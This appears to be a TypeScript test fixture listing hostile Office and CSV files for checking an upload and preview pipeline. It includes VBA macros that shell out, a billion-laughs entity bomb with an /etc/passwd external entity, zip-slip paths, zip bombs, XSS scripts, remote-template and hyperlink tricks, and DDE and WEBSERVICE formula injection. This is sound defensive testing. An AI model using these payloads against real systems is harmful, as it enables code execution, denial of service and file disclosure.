import { EICAR } from '../storage/eicar.ts'
import { type End, type Hostile, infected, kept, OUTSIDE, onlySaved, SCRIPT } from './hostile.ts'
import { docx, relation, xlsx } from './office.ts'
import { manyBlanks } from './zip.ts'

const OFFICE = 'application/vnd.openxmlformats-officedocument.'
const word = (preview: 'words' | 'failed'): End => kept(`${OFFICE}wordprocessingml.document`, preview)
const sheet = (preview: 'table' | 'failed'): End => kept(`${OFFICE}spreadsheetml.sheet`, preview)
const MACROS = Buffer.from('Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\nShell "calc"\nEnd Sub')

/** Entities that stand for entities: three gigabytes, written out. */
const LAUGHS = `<!DOCTYPE w [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, n) => `<!ENTITY ${'bcdefghij'[n]} "${`&${'abcdefghi'[n]};`.repeat(10)}">`).join('')}<!ENTITY x SYSTEM "file:///etc/passwd">]>`

export const OFFICES: readonly Hostile[] = [
  {
    what: 'a Word document with macros',
    name: 'macro.docm',
    content: () =>
      docx({
        paragraphs: ['Enable content'],
        type: 'application/vnd.ms-word.document.macroEnabled.main+xml',
        parts: [{ name: 'word/vbaProject.bin', content: MACROS }],
      }),
    end: onlySaved('application/vnd.ms-word.document.macroenabled.12'),
  },
  {
    what: 'a Word document with macros that says it has none',
    name: 'hidden-macro.docx',
    content: () => docx({ paragraphs: ['Hello'], parts: [{ name: 'word/vbaProject.bin', content: MACROS }] }),
    end: word('words'),
  },
  {
    what: 'a spreadsheet with macros',
    name: 'macro.xlsm',
    content: () => xlsx({ A: [['x']] }, '', 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'),
    end: onlySaved('application/vnd.ms-excel.sheet.macroenabled.12'),
  },
  {
    what: 'a document of the old kind, which may hold anything',
    name: 'old.doc',
    content: () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1_024)]),
    end: onlySaved('application/x-cfb'),
  },
  {
    what: 'a Word document whose template lies elsewhere',
    name: 'template.docx',
    content: () => docx({ paragraphs: ['Hello'], relations: relation('r9', 'attachedTemplate', `${OUTSIDE}.dotm`) }),
    end: word('words'),
  },
  {
    what: 'a Word document with a picture that lies elsewhere, and a link that is a script',
    name: 'calls.docx',
    content: () =>
      docx({
        paragraphs: ['Hello'],
        body: `<w:p><w:hyperlink r:id="r8"><w:r><w:t>Click</w:t></w:r></w:hyperlink></w:p><w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="r9"/></w:drawing></w:r></w:p>`,
        relations:
          relation('r8', 'hyperlink', `javascript:${SCRIPT.replaceAll("'", '&apos;')}`) +
          relation('r9', 'image', OUTSIDE),
      }),
    end: word('words'),
  },
  {
    what: 'a Word document whose words are scripts',
    name: 'words.docx',
    content: () => docx({ heading: `<script>${SCRIPT}</script>`, paragraphs: [`<img src=x onerror="${SCRIPT}">`] }),
    end: word('words'),
  },
  {
    what: 'a Word document with entities that grow without end',
    name: 'laughs.docx',
    content: () => docx({ prolog: LAUGHS, body: '<w:p><w:r><w:t>&j;&x;</w:t></w:r></w:p>' }),
    end: word('failed'),
  },
  {
    what: 'a Word document nested a hundred thousand deep',
    name: 'deep.docx',
    content: () => docx({ body: `${'<w:p>'.repeat(100_000)}${'</w:p>'.repeat(100_000)}` }),
    end: word('failed'),
  },
  {
    what: 'a Word document with entries that climb out of its folder',
    name: 'climbs.docx',
    content: () => docx({ paragraphs: ['Hello'], parts: [{ name: '../../../../tmp/climbed', content: 'x' }] }),
    end: word('words'),
  },
  {
    what: 'a Word document that unpacks to 400 MB',
    name: 'bomb.docx',
    content: () => docx({ paragraphs: ['Hello'], parts: [manyBlanks('word/media/blank.bin', 400)] }),
    end: word('failed'),
  },
  {
    what: 'a Word document that unpacks to 400 MB and denies it',
    name: 'lies.docx',
    content: () => docx({ paragraphs: ['Hello'], instead: manyBlanks('word/document.xml', 400, 1_000) }),
    end: word('failed'),
  },
  {
    what: 'a Word document with the test virus inside',
    name: 'carries.docx',
    content: () => docx({ paragraphs: ['Hello'], parts: [{ name: 'word/embeddings/a.bin', content: EICAR }] }),
    end: infected,
  },
  {
    what: 'a spreadsheet whose formulas call out',
    name: 'formulas.xlsx',
    content: () =>
      xlsx({
        A: [
          [
            { formula: `WEBSERVICE("${OUTSIDE}")`, value: 'x' },
            { formula: "cmd|'/c calc'!A0", value: '1' },
            `=HYPERLINK("${OUTSIDE}")`,
          ],
        ],
      }),
    end: sheet('table'),
  },
  {
    what: 'a spreadsheet that claims seventeen billion cells',
    name: 'vast.xlsx',
    content: () => xlsx({ A: [['x']] }, '<dimension ref="A1:XFD1048576"/>'),
    end: sheet('table'),
  },
  {
    what: 'a table whose cells are formulas',
    name: 'formulas.csv',
    content: () =>
      Buffer.from(`a,b\n=cmd|'/c calc'!A0,@SUM(1)\n"=HYPERLINK(""${OUTSIDE}"")",<script>${SCRIPT}</script>\n`),
    end: kept('text/csv', 'table'),
  },
  {
    what: 'a table of half a million columns',
    name: 'wide.csv',
    content: () => Buffer.from(','.repeat(500_000)),
    end: kept('text/csv', 'table'),
  },
]
